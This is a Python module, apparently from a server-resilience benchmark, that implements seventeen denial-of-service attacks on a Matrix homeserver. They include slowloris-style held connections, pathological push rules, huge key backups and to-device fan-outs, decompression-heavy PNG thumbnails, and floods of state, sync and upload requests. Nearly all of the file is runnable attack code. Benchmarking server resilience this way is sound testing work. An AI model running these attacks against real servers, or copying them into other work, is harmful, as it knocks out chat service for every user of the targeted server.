"""What an ordinary user can ask for that costs a server more than it costs them.

Each runs until it is cancelled, with default rate limits. Whether it is refused is not looked at: what
counts is what others notice of it.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import secrets
import struct
import zlib
from typing import Any
from urllib.parse import quote

from bench.attacks.attacker import CLIENT, Attack, Attacker, register

KIB = 1024
MIB = 1024 * KIB
BIG_TEXT = "xaa " * 15_000 + "xa"
SLIDING_SYNC = "/_matrix/client/unstable/org.matrix.simplified_msc3575/sync"


async def push_rules(attacker: Attacker) -> None:
    """Many conditions that look at every word of large messages."""
    room_id = await attacker.room()
    other = await register(attacker.port)
    await other.wanted("POST", f"/join/{quote(room_id)}", {})
    for number in range(20):
        like = {"kind": "event_match", "key": "content.body", "pattern": "xa"}
        never = {
            "kind": "event_match",
            "key": "content.body",
            "pattern": "*n*e*v*e*r*" if number % 2 else "never",
        }
        rule = {"actions": [], "conditions": [like] * 99 + [never]}
        await attacker.call("PUT", f"/pushrules/global/override/r{number}", rule)
    answer = await attacker.wanted("GET", "/sync?timeout=0")
    while True:
        await other.send(room_id, {"msgtype": "m.text", "body": BIG_TEXT})
        fresh = await attacker.call("GET", f"/sync?timeout=0&since={answer['next_batch']}")
        answer = fresh or answer


async def key_backup(attacker: Attacker) -> None:
    """Backups of many megabytes."""
    auth_data = {"algorithm": "m.megolm_backup.v1.curve25519-aes-sha2", "auth_data": {"public_key": "x"}}
    version = (await attacker.wanted("POST", "/room_keys/version", auth_data))["version"]
    one = {"first_message_index": 1, "forwarded_count": 0, "is_verified": True, "session_data": {}}
    sessions = {f"{number:x}": one for number in range(375)}
    rooms = {f"!r{number}:x": {"sessions": sessions} for number in range(400)}
    raw = json.dumps({"rooms": rooms}, separators=(",", ":")).encode()
    while True:
        await attacker.call("PUT", f"/room_keys/keys?version={version}", raw=raw)


async def bodies_without_a_token(attacker: Attacker) -> None:
    """Large bodies of requests that nobody has logged in for, and that do not end."""
    size = 15 * MIB
    head = attacker.head("PUT", f"{CLIENT}/room_keys/keys?version=1", size, token=False)
    await _hold(attacker, head, b" " * (64 * KIB), size - 64 * KIB, at_once=10)


async def slow_bodies(attacker: Attacker) -> None:
    """The same with a token, and slowly."""
    size = 500 * KIB
    path = f"{CLIENT}/user/{quote(attacker.user_id)}/account_data/slow"
    head = attacker.head("PUT", path, size)
    await _hold(attacker, head, b" " * KIB, size - KIB, at_once=20, pause_s=0.05)


async def slow_heads(attacker: Attacker) -> None:
    """Heads that do not end."""
    await _hold(attacker, b"GET / HTTP/1.1\r\n", b"X-A: b\r\n", 64 * MIB, at_once=20, pause_s=0.2)


async def to_device(attacker: Attacker) -> None:
    """Messages to the devices of 60,000 users, and large ones to one's own."""
    name = attacker.server_name
    many = json.dumps({"messages": {f"@u{number}:{name}": {"*": {}} for number in range(60_000)}}).encode()
    content = {"x": "y" * (60 * KIB)}
    own = json.dumps({"messages": {attacker.user_id: {"*": content}}}).encode()
    while True:
        await attacker.call("PUT", f"/sendToDevice/m.x/{secrets.token_hex(6)}", raw=many)
        for _ in range(20):
            await attacker.call("PUT", f"/sendToDevice/m.x/{secrets.token_hex(6)}", raw=own)


async def account_data(attacker: Attacker) -> None:
    """Large account data, and initial syncs with all of it."""
    content = {"x": "y" * (500 * KIB)}

    async def sync() -> None:
        while True:
            await attacker.call("GET", "/sync?timeout=0")

    async with asyncio.TaskGroup() as group:
        for _ in range(3):
            group.create_task(sync())
        for number in range(10**9):
            await attacker.call("PUT", f"/user/{quote(attacker.user_id)}/account_data/t.{number}", content)


async def sliding_sync(attacker: Attacker) -> None:
    """Connections with long lists of wanted state."""
    for number in range(10**9):
        wanted = [[f"{number}.{item}." + "a" * 30, "b" * 40] for item in range(490)]
        lists = {
            f"l{item}": {"ranges": [[0, 9]], "timeline_limit": 1, "required_state": wanted}
            for item in range(10)
        }
        await attacker.call("POST", f"{SLIDING_SYNC}?timeout=0", {"conn_id": f"c{number}", "lists": lists})


async def unread_answers(attacker: Attacker) -> None:
    """Large answers that nobody reads."""
    room_id = await attacker.room()
    for _ in range(60):
        await attacker.send(room_id, {"msgtype": "m.text", "body": "z" * 60_000})
    path = f"{CLIENT}/rooms/{quote(room_id)}/messages?dir=b&limit=1000"
    head = attacker.head("GET", path)
    await _hold(attacker, head, head, 64 * KIB, at_once=20)


async def thumbnails(attacker: Attacker) -> None:
    """Thumbnails of images that take long to decode."""
    while True:
        uploaded = await attacker.call(
            "POST", "/_matrix/media/v3/upload?filename=x.png", raw=_png(5000, 5000)
        )
        if uploaded is None:
            continue
        media = uploaded["content_uri"].removeprefix("mxc://")
        sides = [(width, method) for width in (32, 96, 320, 640, 800) for method in ("crop", "scale")]
        await asyncio.gather(
            *(
                attacker.call(
                    "GET",
                    f"/_matrix/client/v1/media/thumbnail/{media}?width={width}&height={width}&method={method}",
                )
                for width, method in sides
            )
        )


async def uploads(attacker: Attacker) -> None:
    """Media, as quickly as can be."""
    async with asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(_upload(attacker))


async def large_events(attacker: Attacker) -> None:
    """Events of 60 KiB, and reading them."""
    room_id = await attacker.room()

    async def read() -> None:
        while True:
            await attacker.call("GET", f"/rooms/{quote(room_id)}/messages?dir=b&limit=1000")
            await attacker.call("GET", "/sync?timeout=0")

    async with asyncio.TaskGroup() as group:
        group.create_task(read())
        while True:
            await attacker.send(room_id, {"msgtype": "m.text", "body": "z" * 60_000})


async def state(attacker: Attacker) -> None:
    """A room with much state, and reading all of it."""
    room_id = await attacker.room()
    for number in range(10**9):
        path = f"/rooms/{quote(room_id)}/state/org.example.x/{number}"
        await attacker.call("PUT", path, {"x": "y" * (20 * KIB)})
        if number % 50 == 0:
            await attacker.call("GET", f"/rooms/{quote(room_id)}/state")
            await attacker.call("GET", "/sync?timeout=0")


async def many_rooms(attacker: Attacker) -> None:
    """Rooms with many invites, and initial syncs of all of them."""
    for number in range(10**9):
        invite = [f"@nobody{number}.{item}:{attacker.server_name}" for item in range(100)]
        await attacker.call("POST", "/createRoom", {"preset": "private_chat", "invite": invite})
        await attacker.call("GET", "/sync?timeout=0")
        lists = {"all": {"ranges": [[0, 5000]], "timeline_limit": 50, "required_state": [["*", "*"]]}}
        await attacker.call("POST", f"{SLIDING_SYNC}?timeout=0", {"lists": lists})


async def waiting_syncs(attacker: Attacker) -> None:
    """Long polls, hundreds at once."""
    answer = await attacker.wanted("GET", "/sync?timeout=0")
    head = attacker.head("GET", f"{CLIENT}/sync?timeout=60000&since={answer['next_batch']}")
    await _hold(attacker, head, b"", 0, at_once=200)


async def small_things(attacker: Attacker) -> None:
    """Filters, keys, receipts, devices, tags, pushers and rules without end."""
    room_id = await attacker.room()
    event_id = (await attacker.send(room_id, {"msgtype": "m.text", "body": "x"}))["event_id"]
    user, room = quote(attacker.user_id), quote(room_id)
    for number in range(10**9):
        await attacker.call(
            "POST", f"/user/{user}/filter", {"room": {"rooms": [f"!{number}.{n}:x" for n in range(500)]}}
        )
        keys = {
            f"signed_curve25519:{number}.{item}": {"key": "A" * 43, "signatures": {}} for item in range(500)
        }
        await attacker.call("POST", "/keys/upload", {"one_time_keys": keys})
        receipt = {"thread_id": f"$t{number}"}
        await attacker.call("POST", f"/rooms/{room}/receipt/m.read/{quote(event_id)}", receipt)
        await attacker.call("PUT", f"/user/{user}/rooms/{room}/tags/u.{number}", {"x": "y" * 1000})
        pusher = {
            "app_display_name": "a" * 500,
            "app_id": f"a{number}",
            "device_display_name": "d" * 500,
            "kind": "http",
            "lang": "en",
            "pushkey": f"k{number}",
            "append": True,
            "data": {"url": "https://push.example/_matrix/push/v1/notify", "x": "y" * 5000},
        }
        await attacker.call("POST", "/pushers/set", pusher)
        await attacker.call("PUT", f"/pushrules/global/room/!r{number}:x", {"actions": ["notify"]})
        login = {
            "type": "m.login.password",
            "identifier": {"type": "m.id.user", "user": attacker.user_id},
            "password": "an attacker's password",
        }
        await attacker.call("POST", "/login", login)
        await attacker.call(
            "PUT", f"/profile/{user}/org.example.k{number}", {f"org.example.k{number}": "x" * 5000}
        )
        await attacker.call("POST", f"/user/{user}/openid/request_token", {})
        await attacker.call("POST", "/register", {"username": f"x{secrets.token_hex(6)}"})


async def searches(attacker: Attacker) -> None:
    """Searches that find much, and directories."""
    room_id = await attacker.room(name="the room of many words")
    for _ in range(100):
        await attacker.send(room_id, {"msgtype": "m.text", "body": "word other " * 2000})
    criteria = {"search_categories": {"room_events": {"search_term": "word other", "order_by": "rank"}}}
    while True:
        await attacker.call("POST", "/search", criteria)
        await attacker.call("POST", "/user_directory/search", {"search_term": "u", "limit": 1000})
        await attacker.call("POST", "/publicRooms", {"limit": 1000, "filter": {"generic_search_term": "o"}})


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        push_rules,
        key_backup,
        bodies_without_a_token,
        slow_bodies,
        slow_heads,
        to_device,
        account_data,
        sliding_sync,
        unread_answers,
        thumbnails,
        uploads,
        large_events,
        state,
        many_rooms,
        waiting_syncs,
        small_things,
        searches,
    )
}


async def _hold(
    attacker: Attacker, head: bytes, chunk: bytes, size: int, *, at_once: int, pause_s: float = 0.0
) -> None:
    """Connections that send a head and ``size`` bytes in chunks, then neither send nor read nor end."""

    async def one() -> None:
        while True:
            writer = None
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await attacker.connect()
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                writer.write(head)
                sent = 0
                while chunk and sent < size and not writer.is_closing():
                    writer.write(chunk)
                    sent += len(chunk)
                    async with asyncio.timeout(30):
                        await writer.drain()
                    await asyncio.sleep(pause_s)
                await asyncio.sleep(15)
                writer.transport.resume_reading()  # type: ignore[attr-defined]
                async with asyncio.timeout(1):
                    await reader.read(1)
            if writer is not None:
                writer.transport.abort()
            await asyncio.sleep(0.1)

    async with asyncio.TaskGroup() as group:
        for _ in range(at_once):
            group.create_task(_quietly(one()))


async def _quietly(work: Any) -> None:
    with contextlib.suppress(TimeoutError, OSError):
        await work


async def _upload(attacker: Attacker) -> None:
    while True:
        raw = secrets.token_bytes(5 * MIB)
        await attacker.call("POST", "/_matrix/media/v3/upload?filename=x.bin", raw=raw)


def _png(width: int, height: int) -> bytes:
    """An image that nobody has uploaded yet, of few bytes and many pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    pixels = zlib.compressobj(1)
    row = b"\0" + secrets.token_bytes(8) + bytes(width * 3 - 8)
    data = b"".join(pixels.compress(row) for _ in range(height)) + pixels.flush()
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", data) + chunk(b"IEND", b"")
